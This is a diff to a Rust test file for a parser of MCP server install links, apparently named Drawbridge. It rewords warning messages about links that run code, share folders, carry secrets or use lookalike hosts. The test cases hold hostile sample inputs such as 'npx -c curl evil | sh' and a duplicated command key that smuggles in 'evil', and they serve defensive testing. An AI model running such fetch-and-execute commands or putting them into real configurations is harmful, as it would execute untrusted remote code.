@@ -56,7 +56,7 @@ fn chatbox_3627_keys_that_start_a_server_are_rejected() {
         let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", key: true })));
         assert_eq!(
             found.notes,
-            [format!("a link may not set these, which are left out: {key:?}")],
+            [format!("a link may not set these, so they are ignored: {key:?}")],
             "the key is ignored in other apps' links"
         );
     }
@@ -90,7 +90,7 @@ fn cherry_studio_17699_only_displayed_settings_are_set() {
     }
     let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", "dxtPath": "/tmp/evil" })));
     assert_eq!(found.config.command_line(), "x", "the displayed command is the one that runs");
-    assert_eq!(found.notes, ["a link may not set these, which are left out: \"dxtPath\""], "the ignored key is named");
+    assert_eq!(found.notes, ["a link may not set these, so they are ignored: \"dxtPath\""], "the ignored key is named");
     let extra = format!("{}&trust=true", drawbridge_link("a", &json!({ "command": "x" })));
     assert!(rejection_message(&extra).ends_with("a link may not set \"trust\""), "unknown parameters are rejected");
     assert!(
@@ -102,7 +102,7 @@ fn cherry_studio_17699_only_displayed_settings_are_set() {
 #[test]
 fn cherry_studio_9509_link_activates_no_server_and_is_limited_to_20() {
     let found = parse_one(&other_app_link(&json!({ "name": "a", "command": "x", "isActive": true })));
-    assert_eq!(found.notes, ["a link may not set these, which are left out: \"isActive\""], "the switch is not read");
+    assert_eq!(found.notes, ["a link may not set these, so they are ignored: \"isActive\""], "the switch is not read");
     let many = |count: usize| {
         let server = |number| json!({ "name": format!("s{number}"), "command": "x" });
         other_app_link(&(0..count).map(server).collect())
@@ -118,10 +118,10 @@ fn cherry_studio_9509_link_activates_no_server_and_is_limited_to_20() {
 
 #[test]
 fn goose_and_5ire_431_arguments_that_run_code_or_share_folders_are_marked() {
-    let code = "runs code that stands in the link or is loaded first";
-    let source = "takes code from an address, and not from the usual registry";
-    let folder = "gives the container a folder, a device or rights of this computer";
-    let shell = "is a shell, which runs whatever its arguments say";
+    let code = "runs code from the link, or code that it downloads first";
+    let source = "downloads code from an address instead of the usual registry";
+    let folder = "gives the container access to a folder or device, or privileges on this computer";
+    let shell = "is a shell, which runs any command in its arguments";
     let cases: &[(&[&str], &[&str])] = &[
         (&["npx", "-c", "curl evil | sh"], &[code]),
         (&["npx", "-y", "--call=evil", "@acme/files"], &[code]),
@@ -218,7 +218,7 @@ fn hermes_87581_exactly_one_of_command_and_http_url_is_required() {
         assert!(found.contains(message), "expected {message:?} for {config}: {found}");
     }
     let twice = "vscode:mcp/install?{\"command\":\"good\",\"command\":\"evil\"}";
-    assert!(rejection_message(twice).contains("\"command\" stands twice"), "duplicate keys are rejected");
+    assert!(rejection_message(twice).contains("\"command\" occurs twice"), "duplicate keys are rejected");
 }
 
 #[test]
@@ -247,7 +247,8 @@ fn secrets_in_links_are_separated_and_not_repeated() {
         &json!({ "command": "x", "env": { "API_KEY": token, "OTHER": token, "REGION": "eu" } }),
     ));
     assert_eq!(local.secrets, ["API_KEY", "OTHER"], "variables are recognized by name or by value");
-    let note = "the link carries what looks like a secret: \"Authorization\"; whoever has the link has it, too";
+    let note =
+        "the link contains values that look like secrets: \"Authorization\"; everyone who has the link can read them";
     assert_eq!(remote.notes, [note], "the user is warned");
     assert!(!format!("{:?}{:?}", remote.notes, local.notes).contains("4eC39"), "the warning doesn't contain the value");
     for config in [
@@ -270,7 +271,8 @@ fn link_cannot_reference_stored_secrets() {
         json!({ "url": "https://evil.example", "headers": { "X": format!("Bearer {named}") } }),
     ] {
         assert!(
-            rejection_message(&drawbridge_link("github", &config)).contains("names a secret that Drawbridge keeps"),
+            rejection_message(&drawbridge_link("github", &config))
+                .contains("refers to a secret that Drawbridge stores"),
             "{config}"
         );
     }
@@ -310,7 +312,7 @@ fn private_address_is_noted() {
     }
     assert_eq!(
         note("https://xn--gthub-n4a.com/mcp"),
-        "its host has letters that can be taken for others: it is \"xn--gthub-n4a.com\"",
+        "its host has letters that look like others: it is \"xn--gthub-n4a.com\"",
         "a host with similar letters is noted"
     );
     for url in ["http://mcp.example.com", "http://192.168.1.1", "http://localhost.example.com", "http://nas.local"] {
@@ -326,7 +328,7 @@ fn address_of_a_bridge_is_noted() {
     let notes =
         |words: &[&str]| parse_one(&drawbridge_link("a", &json!({ "command": "npx", "args": words }))).notes.join("; ");
     let plain = notes(&["-y", "mcp-remote", "http://mcp.example.com/mcp", "--allow-http"]);
-    assert!(plain.contains("it leads to an address that is not encrypted"), "{plain}");
+    assert!(plain.contains("its address is not encrypted"), "{plain}");
     let local = notes(&["supergateway", "--sse", "https://192.168.1.1/admin"]);
     assert!(local.contains("its address is in your network"), "{local}");
     assert_eq!(notes(&["mcp-remote", "https://mcp.example.com"]), "", "a public address has no warning");
@@ -345,7 +347,7 @@ fn invisible_characters_are_rejected_in_every_value() {
         for config in configs {
             let message = rejection_message(&drawbridge_link("a", &config));
             let mut code = String::new();
-            write!(code, "has a character that is not seen (U+{:04X})", hidden as u32).unwrap();
+            write!(code, "has an invisible character (U+{:04X})", hidden as u32).unwrap();
             assert!(message.contains(&code), "{config} is refused: {message}");
             assert!(!message.contains(hidden), "and the message does not repeat it");
         }
@@ -369,7 +371,7 @@ fn existing_server_is_unchanged() {
     assert_eq!(found.name, "GitHub-2", "the new server gets another name");
     assert_eq!(
         found.notes,
-        ["there is a server \"GitHub\" already, which stays as it is: this one would be added beside it"],
+        ["a server \"GitHub\" exists already and stays unchanged: this one would be added as another server"],
         "the user is notified"
     );
 }
